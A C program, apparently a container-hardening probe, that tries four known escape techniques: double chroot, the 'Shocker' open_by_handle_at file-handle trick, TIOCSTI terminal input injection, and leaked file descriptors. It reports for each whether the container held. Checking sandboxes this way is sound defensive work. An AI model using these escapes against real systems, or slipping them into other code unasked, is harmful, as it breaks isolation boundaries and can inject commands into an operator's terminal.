/* Old ways out of a container, as a static program for inside one: `escape WAY`. Prints "escaped ..." or "held ...". */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <unistd.h>

static int held(const char *what) { return printf("held %s: %s\n", what, strerror(errno)), 0; }

/* chroot(2) does not move the working directory: a second one leaves it outside. */
static int twice_chroot(const char *canary) {
  mkdir("/tmp/cell", 0700);
  if (chroot("/tmp/cell") != 0) return held("chroot");
  for (int i = 0; i < 64; i++)
    if (chdir("..") != 0) return held("chdir");
  if (chroot(".") != 0) return held("chroot");
  if (access(canary, F_OK) == 0) return puts("escaped by chroot"), 0;
  return held("chroot");
}

/* "Shocker", 2014: file handles open anything on a file system, wherever the root is. Inode 2 is the root of ext4. */
static int by_handle(const char *path) {
  struct { struct file_handle head; unsigned char bytes[MAX_HANDLE_SZ]; } handle = {.head = {.handle_bytes = 8, .handle_type = 1}};
  memcpy(handle.bytes, "\2\0\0\0\0\0\0\0", 8);
  int mount = open(path, O_RDONLY), fd = open_by_handle_at(mount, &handle.head, O_RDONLY);
  if (fd < 0) return held("open_by_handle_at");
  return puts("escaped by open_by_handle_at"), 0;
}

/* Text put into the terminal's input, for whoever reads there next. */
static int type_for_the_operator(void) {
  for (const char *c = "echo typed\n"; *c; c++)
    if (ioctl(0, TIOCSTI, c) != 0) return held("TIOCSTI");
  return puts("escaped by TIOCSTI"), 0;
}

/* Every descriptor that is open beyond the three. */
static int leaked(void) {
  int found = 0;
  for (int fd = 3; fd < 1024; fd++) {
    char link[64], target[256];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t size = readlink(link, target, sizeof target - 1);
    if (size <= 0) continue;
    target[size] = 0;
    printf("escaped: descriptor %d is %s\n", fd, target);
    found++;
  }
  if (!found) puts("held descriptors: none");
  return 0;
}

int main(int argc, char **argv) {
  const char *way = argc > 1 ? argv[1] : "", *path = argc > 2 ? argv[2] : "/";
  if (strcmp(way, "chroot") == 0) return twice_chroot(path);
  if (strcmp(way, "handle") == 0) return by_handle(path);
  if (strcmp(way, "tiocsti") == 0) return type_for_the_operator();
  if (strcmp(way, "descriptors") == 0) return leaked();
  return 2;
}
